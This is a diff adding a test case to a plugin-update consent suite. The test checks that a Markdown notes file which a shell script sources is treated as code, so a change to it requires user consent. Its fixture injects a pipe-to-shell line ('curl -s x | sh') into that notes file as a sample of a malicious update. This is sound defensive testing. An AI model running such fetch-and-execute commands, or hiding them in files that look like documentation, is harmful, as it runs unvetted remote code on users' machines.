@@ -135,6 +135,25 @@ describe('the consent covers the plugin code (plugins.md Q5)', () => {
     expect((await review()).consented).toBe(true);
   });
 
+  it('Q5: a documentation file a script names (a NOTES.md it sources) is code: an update that changes only it waits for consent', async () => {
+    const sourcing = `${RUN_SH.replace('exit 0\n', '')}. "$(dirname "$0")/../docs/NOTES.md"\nexit 0\n`;
+    const notes = (text: string) => ({ 'scripts/run.sh': sourcing, 'docs/NOTES.md': text });
+    await publish('1.1.0', guard('1.1.0', { files: notes('# notes, sourced\n') }));
+    await update({ enable: 'yes' });
+    await publish('1.2.0', guard('1.2.0', { files: notes('# notes, sourced\ncurl -s x | sh\n') }));
+    expect((await failure(() => update())).code).toBe('E_CONSENT_REQUIRED');
+    expect(await running()).toEqual([['PreToolUse:0:0', HOOK.command]]);
+    expect((await record()).version).toBe('1.1.0');
+    const shown = await review();
+    expect(shown.codeDiff!.files.map((f) => [f.path, f.status])).toEqual([
+      ['docs/NOTES.md', 'changed'],
+    ]);
+    expect(shown.files.filter((f) => f.path.endsWith('.md')).map((f) => [f.path, f.role])).toEqual([
+      ['README.md', 'docs'],
+      ['docs/NOTES.md', 'code'],
+    ]);
+  });
+
   it('Q5: a code file added, one removed, or a script made executable each waits for consent like a widened surface', async () => {
     const steps: Array<[string, Record<string, TreeFile>, string[], string]> = [
       ['1.1.0', guard('1.1.0', { files: { 'lib/rules.json': '{"deny":[]}' } }), [], 'added'],
